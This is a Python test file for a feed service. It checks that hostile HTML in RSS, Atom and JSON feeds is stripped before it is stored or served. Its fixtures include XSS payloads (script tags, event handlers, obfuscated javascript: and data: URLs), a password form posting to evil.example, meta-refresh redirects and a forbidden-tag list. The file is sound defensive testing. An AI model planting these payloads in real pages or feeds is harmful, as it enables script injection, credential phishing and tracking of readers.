"""RELIABILITY.md section 5, items 33-43: hostile HTML in feed content, from the feed through the
store to what the service serves (RSS, Atom and JSON Feed built by ``service.syndicate`` from
``store.feeds.latest_stories``, the same calls the HTTP feeds make).

The check is structural: every served HTML fragment is parsed and walked; no element or attribute
off the allow-list survives, and every URL attribute is http(s) or mailto after entity decoding.
"""

from __future__ import annotations

import json
import re

import lxml.html
import pytest
from lxml import etree
from sqlalchemy import Engine

from service import syndicate
from service.store.feeds import latest_stories
from tests.hostile.conftest import ingest_doc, stored_rows
from tests.hostile.feeds import item, rss

pytestmark = pytest.mark.usefixtures("engine")

FORBIDDEN_TAGS = {
    "script", "style", "form", "input", "button", "iframe", "object", "embed", "meta", "base", "link",
    "svg", "img", "textarea", "select", "frame", "frameset", "applet", "math",
}  # fmt: skip
SAFE_SCHEMES = ("http://", "https://", "mailto:")

HOSTILE_BODIES = {
    "33-script": '<p>before</p><script>alert(1)</script><p>after</p>',
    "33-img-onerror": '<p>x</p><img src=x onerror="alert(2)">',
    "33-svg-onload": '<svg onload="alert(3)"><circle r="1"/></svg><p>svg text</p>',
    "34-entity-javascript": '<a href="jav&#x61;script:alert(1)">entity</a>',
    "34-mixed-case": '<a href="JaVaScRiPt:alert(1)">mixed</a>',
    "34-tab": '<a href="java\tscript:alert(1)">tab</a>',
    "34-vbscript": '<a href="vbscript:msgbox(1)">vb</a>',
    "34-data-html": '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data</a>',
    "35-form": '<form action="https://evil.example/steal"><input type="password" name="p">'
               '<button>Log in</button></form><p>Please sign in</p>',
    "36-file-link": '<a href="file:///etc/passwd">local</a>',
    "36-data-img": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "37-iframe": '<iframe src="https://evil.example"></iframe><p>frame</p>',
    "37-object-embed": '<object data="x.swf"></object><embed src="x.swf"><p>plugins</p>',
    "37-meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>refresh</p>',
    "37-base": '<base href="https://evil.example/"><a href="/rel">relative</a>',
    "37-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css"><p>css</p>',
    "38-style-attr": '<p style="position:fixed;top:0;background:url(https://tracker.example/p)">styled</p>',
    "38-css-expression": '<div style="width: expression(alert(1))">expr</div>'
                         '<style>*{x:expression(alert(2))}</style>',
    "39-tracking-pixel": '<p>news</p><img src="https://tracker.example/p.gif" width="1" height="1">',
    "39-remote-image": '<p>figure:</p><img src="https://images.example/chart.png" alt="chart">',
}  # fmt: skip


def assert_safe_fragment(fragment: str) -> None:
    """No forbidden element, no event handler or style attribute, only http(s)/mailto URLs."""
    if not fragment.strip():
        return
    root = lxml.html.fragment_fromstring(fragment, create_parent="div")
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        assert el.tag.lower() not in FORBIDDEN_TAGS, (el.tag, fragment)
        for name, value in el.attrib.items():
            low = name.lower()
            assert not low.startswith("on"), (name, fragment)
            assert low not in ("style", "formaction", "action", "srcset"), (name, fragment)
            if low in ("href", "src", "cite", "background", "poster", "xlink:href"):
                decoded = re.sub(r"[\x00-\x20]", "", value).lower()
                # A relative reference carries no scheme (nothing before a ':' in its first segment).
                relative = ":" not in decoded.split("/", 1)[0].split("?", 1)[0]
                assert decoded.startswith(SAFE_SCHEMES) or relative, (name, value, fragment)
        if el.tag == "a" and el.get("href"):
            assert "noopener" in (el.get("rel") or ""), fragment


def served_fragments(engine: Engine) -> list[str]:
    """Every HTML fragment the three feed formats would serve, after a strict XML parse."""
    with engine.connect() as conn:
        stories = latest_stories(conn, limit=200)
    info = syndicate.FeedInfo(
        title="All", description="everything", feed_url="http://127.0.0.1:8080/feeds/all",
        home_url="http://127.0.0.1:8080/",
    )  # fmt: skip
    out: list[str] = []
    rss_doc = etree.fromstring(syndicate.render("xml", info, stories))  # strict parser: raises if broken
    out += [d.text or "" for d in rss_doc.iter("description")][1:]
    atom = etree.fromstring(syndicate.render("atom", info, stories))
    out += [c.text or "" for c in atom.iter("{http://www.w3.org/2005/Atom}content")]
    feed = json.loads(syndicate.render("json", info, stories))
    out += [i.get("content_html", "") for i in feed["items"]]
    assert len(stories) > 0
    return out


@pytest.mark.parametrize("case", sorted(HOSTILE_BODIES))
def test_33_to_39_hostile_html_never_served(engine: Engine, now, case: str) -> None:
    body = HOSTILE_BODIES[case]
    doc = rss([item(f"Case {case}", guid=case, link="http://news.test/a", description=body)])
    result = ingest_doc(engine, "hostile-html", doc, now)
    assert result.error is None
    [row] = stored_rows(engine)
    assert_safe_fragment(row["content_html"] or "")
    for fragment in served_fragments(engine):
        assert_safe_fragment(fragment)
    # Text is kept where the markup around it was removed (item 35: "text kept").
    if case == "35-form":
        assert "Please sign in" in row["summary"]


def test_40_cdata_terminator_in_content_round_trips(engine: Engine, now) -> None:
    body = "<![CDATA[ nested ]]> and a stray ]]> plus <script>x</script> & bare ampersand"
    doc = rss(
        [
            item("Terminator ]]> in a title", guid="c1", description=body),
            "<item><title><![CDATA[CDATA title ]]]]><![CDATA[> tricky]]></title><guid>c2</guid>"
            "<description><![CDATA[<p>inside cdata ]]]]><![CDATA[> done</p>]]></description></item>",
        ]
    )
    ingest_doc(engine, "cdata", doc, now)
    for fragment in served_fragments(engine):  # strict XML parse happens inside
        assert_safe_fragment(fragment)
    titles = {r["title"] for r in stored_rows(engine)}
    assert "Terminator ]]> in a title" in titles


def test_41_text_title_is_literal_text(engine: Engine, now) -> None:
    atom = (
        b'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><id>urn:t</id>'
        b"<updated>2026-11-01T00:00:00Z</updated><entry><id>urn:e1</id>"
        b'<title type="text">&lt;b onmouseover=x&gt;Bold claim</title>'
        b'<updated>2026-11-01T00:00:00Z</updated><link href="http://news.test/e1"/></entry></feed>'
    )
    ingest_doc(engine, "atom-text", atom, now, {"content-type": "application/atom+xml"})
    [row] = stored_rows(engine)
    assert row["title"] == "<b onmouseover=x>Bold claim"
    with engine.connect() as conn:
        stories = latest_stories(conn)
    info = syndicate.FeedInfo(title="t", description="d", feed_url="http://h/f", home_url="http://h/")
    rss_doc = etree.fromstring(syndicate.render("xml", info, stories))
    [title] = [t.text for t in rss_doc.iter("title")][1:]
    assert title == "<b onmouseover=x>Bold claim"  # a text node: the serializer escapes it
    assert b"<b onmouseover" not in syndicate.render("xml", info, stories)


def test_42_bidi_and_zero_width_kept_in_text(engine: Engine, now) -> None:
    title = "Trial \u202eresults\u202c with\u200b zero width"
    ingest_doc(engine, "bidi", rss([item(title, guid="b1", link="http://news.test/b")]), now)
    [row] = stored_rows(engine)
    # Body text keeps them (they can be meaningful in RTL languages); the digest Subject and
    # From name strip them (digests tests); the link shown is the real URL.
    assert "results" in row["title"]
    assert row["url"] == "http://news.test/b"


@pytest.mark.parametrize(
    "link",
    ["javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd"],
)
def test_43_dangerous_entry_link_dropped(engine: Engine, now, link: str) -> None:
    ingest_doc(engine, "badlink", rss([item("Bad link", guid="l1", link=link)]), now)
    [row] = stored_rows(engine)
    assert row["url"] is None
    with engine.connect() as conn:
        stories = latest_stories(conn)
    info = syndicate.FeedInfo(title="t", description="d", feed_url="http://h/f", home_url="http://h/")
    for ext in ("xml", "atom", "json"):
        body = syndicate.render(ext, info, stories).decode()
        assert link.split(":")[0].lower() + ":" not in body.lower()
